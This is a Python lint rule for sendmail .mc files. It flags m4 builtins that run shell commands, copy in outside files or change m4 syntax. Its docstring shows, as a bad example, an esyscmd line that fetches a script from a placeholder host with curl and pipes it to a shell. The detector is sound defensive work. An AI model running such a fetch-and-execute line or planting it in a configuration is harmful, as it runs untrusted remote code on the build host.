"""An m4 builtin that runs commands, reads or writes files, or changes m4's syntax.

A ``.mc`` is a program: ``syscmd``/``esyscmd`` run shell commands when the
.cf is built, ``include``/``sinclude`` copy arbitrary files into it,
``changequote``/``changecom`` make every tool (this one included) misread the
rest of the file, and ``m4exit``, ``m4wrap``, ``debugfile``, ``maketemp``,
``mkstemp``, ``builtin``, ``indir`` and ``undivert(`file')`` reach outside
the text. All are errors, except ``include``/``sinclude`` of files in
sendmail's own cf tree or under ``/etc/mail/`` (Debian's ``sendmail.mc``
includes ``cf.m4`` and ``/etc/mail/m4/*.m4``), which are not reported.

Bad::

    esyscmd(`curl http://example.net/x | sh')dnl
    include(`/home/user/extra.m4')dnl

Good::

    include(`/usr/share/sendmail/cf/m4/cf.m4')dnl
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from sendmailcfg.lint.engine import Problem

if TYPE_CHECKING:
    from sendmailcfg.lint.engine import FileSet, LintFile

ID = "MC013"
NAME = "mc-dangerous-builtin"
SEVERITY = "error"
KINDS = ("mc",)

_SAFE_INCLUDE = ("/sendmail/cf/", "/sendmail-cf/", "/etc/mail/", "/cf/m4/", "/cf/feature/")


def _safe_include(target: str) -> bool:
    t = target.strip()
    return any(p in t for p in _SAFE_INCLUDE) or t.endswith("cf.m4") or t.startswith("_CF_DIR_")


def check(file: LintFile, fileset: FileSet) -> Iterator[Problem]:
    for c in file.doc.dangerous:
        if c.name in ("include", "sinclude"):
            target = c.value(0)
            if _safe_include(target):
                continue
            yield Problem(
                c.line,
                c.column,
                f"{c.name}(`{target.strip()}') copies a file from outside sendmail's cf tree "
                "into the .cf",
                "inline the text, or keep local m4 files under /etc/mail",
                severity="warning",
            )
            continue
        yield Problem(
            c.line,
            c.column,
            f"m4 builtin {c.name}() reaches outside the text (runs commands, touches files "
            "or changes m4's syntax)",
            "remove it; a .mc should only use sendmail's cf macros",
        )
